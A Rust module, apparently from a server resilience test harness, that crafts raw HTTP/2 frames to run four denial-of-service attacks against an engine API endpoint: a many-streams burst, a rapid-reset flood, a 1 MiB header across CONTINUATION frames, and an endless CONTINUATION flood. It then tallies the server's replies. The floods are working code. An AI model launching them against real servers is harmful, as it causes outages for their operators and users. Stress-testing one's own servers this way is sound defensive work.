//! h2c attacks with prior knowledge, frames written by hand (a 9-byte header and a payload;
//! HPACK literal fields without indexing): many streams at once, a rapid-reset flood, a
//! 1 MB header in HEADERS + CONTINUATION, and a CONTINUATION flood.
//!
//! A reader drains the server's frames as they come (so the server never stalls writing) and
//! counts them by type; that count is what the row reports as the answer.

use std::{collections::BTreeMap, fmt, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpStream, tcp::OwnedReadHalf},
    task::JoinHandle,
    time::{Instant, timeout},
};

use super::{Ctx, Outcome, wire::size};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// The largest frame payload a peer must accept without asking.
const MAX_FRAME: usize = 16_384;
/// Frames written per `write_all` in the floods (so a write error says roughly where).
const BATCH: usize = 1000;

/// One frame: the 9-byte header and its payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK integer with an `n`-bit prefix, the prefix byte's high bits `flags`.
fn hpack_int(out: &mut Vec<u8>, n: u32, flags: u8, value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(flags | value as u8);
        return;
    }
    out.push(flags | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A literal header field without indexing, with a new (literal) name.
fn literal(out: &mut Vec<u8>, name: &str, value: &[u8]) {
    out.push(0x00);
    hpack_int(out, 7, 0, name.len());
    out.extend_from_slice(name.as_bytes());
    hpack_int(out, 7, 0, value.len());
    out.extend_from_slice(value);
}

/// The header block of a request.
fn request_block(method: &str, path: &str, token: &str) -> Vec<u8> {
    let mut block = Vec::new();
    literal(&mut block, ":method", method.as_bytes());
    literal(&mut block, ":scheme", b"http");
    literal(&mut block, ":path", path.as_bytes());
    literal(&mut block, ":authority", b"127.0.0.1");
    literal(&mut block, "content-type", b"application/json");
    literal(
        &mut block,
        "authorization",
        format!("Bearer {token}").as_bytes(),
    );
    block
}

/// The preface, our SETTINGS (a large initial window) and a window update for the
/// connection, so answers are never held back by flow control.
fn opening() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    let mut settings = vec![0x0, 0x4];
    settings.extend_from_slice(&0x7fff_ffffu32.to_be_bytes());
    out.extend(frame(SETTINGS, 0, 0, &settings));
    out.extend(frame(
        WINDOW_UPDATE,
        0,
        0,
        &(0x7fff_ffffu32 - 65_535).to_be_bytes(),
    ));
    out
}

/// What the server sent, by frame type (GOAWAY with its error code).
#[derive(Default)]
struct Seen {
    frames: BTreeMap<String, usize>,
    end: &'static str,
}

impl fmt::Display for Seen {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (kind, n) in &self.frames {
            write!(f, "{n}× {kind}, ")?;
        }
        write!(f, "{}", self.end)
    }
}

fn error_name(code: u32) -> String {
    let names = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    names
        .get(code as usize)
        .map_or(format!("error {code}"), |n| n.to_string())
}

fn frame_name(kind: u8, payload: &[u8]) -> String {
    let code_at = |at: usize| -> Option<u32> {
        Some(u32::from_be_bytes(
            payload.get(at..at + 4)?.try_into().ok()?,
        ))
    };
    match kind {
        DATA => "DATA".into(),
        HEADERS => "HEADERS".into(),
        RST_STREAM => format!("RST_STREAM({})", code_at(0).map_or("?".into(), error_name)),
        SETTINGS => "SETTINGS".into(),
        GOAWAY => format!("GOAWAY({})", code_at(4).map_or("?".into(), error_name)),
        WINDOW_UPDATE => "WINDOW_UPDATE".into(),
        other => format!("frame type {other}"),
    }
}

/// Reads and counts the server's frames until it closes or `limit` passes.
fn drain(mut reader: OwnedReadHalf, limit: Duration) -> JoinHandle<Seen> {
    tokio::spawn(async move {
        let deadline = Instant::now() + limit;
        let (mut seen, mut buf) = (Seen::default(), Vec::new());
        let mut chunk = vec![0u8; 64 << 10];
        seen.end = loop {
            let wait = deadline.saturating_duration_since(Instant::now());
            match timeout(wait, reader.read(&mut chunk)).await {
                Err(_) => break "open",
                Ok(Ok(0)) => break "closed",
                Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
                Ok(Err(e)) if e.kind() == std::io::ErrorKind::ConnectionReset => break "reset",
                Ok(Err(_)) => break "closed",
            }
            while buf.len() >= 9 {
                let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
                if buf.len() < 9 + len {
                    break;
                }
                let name = frame_name(buf[3], &buf[9..9 + len]);
                *seen.frames.entry(name).or_default() += 1;
                buf.drain(..9 + len);
            }
        };
        seen
    })
}

/// A connection with the preface sent and a reader draining it.
async fn open(ctx: &Ctx) -> Result<(tokio::net::tcp::OwnedWriteHalf, JoinHandle<Seen>), Outcome> {
    let stream = TcpStream::connect(ctx.addr)
        .await
        .map_err(Outcome::failed_to_connect)?;
    let (reader, mut writer) = stream.into_split();
    let seen = drain(reader, ctx.scale.h2_wait);
    let _ = writer.write_all(&opening()).await;
    Ok((writer, seen))
}

/// Writes `frames` in batches; returns how many were written before the first error.
async fn write_frames(writer: &mut tokio::net::tcp::OwnedWriteHalf, frames: &[Vec<u8>]) -> usize {
    let mut written = 0;
    for batch in frames.chunks(BATCH) {
        if writer.write_all(&batch.concat()).await.is_err() {
            break;
        }
        written += batch.len();
    }
    written
}

/// Ends the attack: waits for the reader (it stops when the server closes, or at its
/// limit), then closes our side.
async fn finish(
    writer: tokio::net::tcp::OwnedWriteHalf,
    seen: JoinHandle<Seen>,
    sent: String,
) -> Outcome {
    let answer = seen.await.map_or("?".into(), |s| s.to_string());
    drop(writer);
    Outcome::text(sent, answer)
}

/// `h2_streams` requests opened at once (HEADERS without END_STREAM on every stream first),
/// then each one's body.
pub(crate) async fn many_streams(ctx: Ctx) -> Outcome {
    let (mut writer, seen) = match open(&ctx).await {
        Ok(open) => open,
        Err(outcome) => return outcome,
    };
    let n = ctx.scale.h2_streams;
    let block = request_block("POST", "/", &ctx.token);
    let body = br#"{"jsonrpc":"2.0","id":1,"method":"engine_exchangeCapabilities","params":[[]]}"#;
    let ids: Vec<u32> = (0..n as u32).map(|i| 2 * i + 1).collect();
    let mut frames: Vec<Vec<u8>> = ids
        .iter()
        .map(|&id| frame(HEADERS, END_HEADERS, id, &block))
        .collect();
    frames.extend(ids.iter().map(|&id| frame(DATA, END_STREAM, id, body)));
    let written = write_frames(&mut writer, &frames).await;
    let bytes: usize = frames.iter().map(Vec::len).sum();
    let sent = format!(
        "{n} streams, {written} frames, {}, 1 conn",
        size(bytes as u64)
    );
    finish(writer, seen, sent).await
}

/// HEADERS (a complete GET) then RST_STREAM(CANCEL) on a new stream, `h2_resets` times.
pub(crate) async fn rapid_reset(ctx: Ctx) -> Outcome {
    let (mut writer, seen) = match open(&ctx).await {
        Ok(open) => open,
        Err(outcome) => return outcome,
    };
    let n = ctx.scale.h2_resets;
    let block = request_block("GET", "/engine/v1/capabilities", &ctx.token);
    let frames: Vec<Vec<u8>> = (0..n as u32)
        .map(|i| {
            let mut pair = frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, &block);
            pair.extend(frame(RST_STREAM, 0, 2 * i + 1, &8u32.to_be_bytes()));
            pair
        })
        .collect();
    let written = write_frames(&mut writer, &frames).await;
    let bytes: usize = frames.iter().map(Vec::len).sum();
    let sent = format!(
        "{n} HEADERS+RST_STREAM, {written} written, {}",
        size(bytes as u64)
    );
    finish(writer, seen, sent).await
}

/// One request whose header block carries a 1 MB field, in HEADERS and CONTINUATION frames.
pub(crate) async fn huge_header(ctx: Ctx) -> Outcome {
    let (mut writer, seen) = match open(&ctx).await {
        Ok(open) => open,
        Err(outcome) => return outcome,
    };
    let mut block = request_block("POST", "/", &ctx.token);
    literal(&mut block, "x-huge", &vec![b'a'; 1 << 20]);
    let pieces: Vec<&[u8]> = block.chunks(MAX_FRAME).collect();
    let last = pieces.len() - 1;
    let frames: Vec<Vec<u8>> = pieces
        .iter()
        .enumerate()
        .map(|(i, piece)| match (i, i == last) {
            (0, end) => frame(
                HEADERS,
                END_STREAM | if end { END_HEADERS } else { 0 },
                1,
                piece,
            ),
            (_, end) => frame(CONTINUATION, if end { END_HEADERS } else { 0 }, 1, piece),
        })
        .collect();
    let written = write_frames(&mut writer, &frames).await;
    let sent = format!("1 MiB field in {} frames ({written} written)", frames.len());
    finish(writer, seen, sent).await
}

/// HEADERS without END_HEADERS, then `h2_continuations` CONTINUATION frames of one small
/// field each, never ending the block.
pub(crate) async fn continuation_flood(ctx: Ctx) -> Outcome {
    let (mut writer, seen) = match open(&ctx).await {
        Ok(open) => open,
        Err(outcome) => return outcome,
    };
    let n = ctx.scale.h2_continuations;
    let mut field = Vec::new();
    literal(&mut field, "x-c", b"v");
    let mut frames = vec![frame(
        HEADERS,
        END_STREAM,
        1,
        &request_block("POST", "/", &ctx.token),
    )];
    frames.extend((0..n).map(|_| frame(CONTINUATION, 0, 1, &field)));
    let written = write_frames(&mut writer, &frames).await;
    let bytes: usize = frames.iter().map(Vec::len).sum();
    let sent = format!(
        "{n} CONTINUATION, {written} frames written, {}",
        size(bytes as u64)
    );
    finish(writer, seen, sent).await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_integers_follow_the_rfc_examples() {
        // RFC 7541 C.1.1 and C.1.2: 10 and 1337 with a 5-bit prefix.
        let mut out = Vec::new();
        hpack_int(&mut out, 5, 0, 10);
        assert_eq!(out, [10]);
        out.clear();
        hpack_int(&mut out, 5, 0, 1337);
        assert_eq!(out, [31, 154, 10]);
    }

    #[test]
    fn a_frame_header_is_length_type_flags_stream() {
        assert_eq!(
            frame(RST_STREAM, 0, 3, &[0, 0, 0, 8]),
            [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]
        );
    }
}
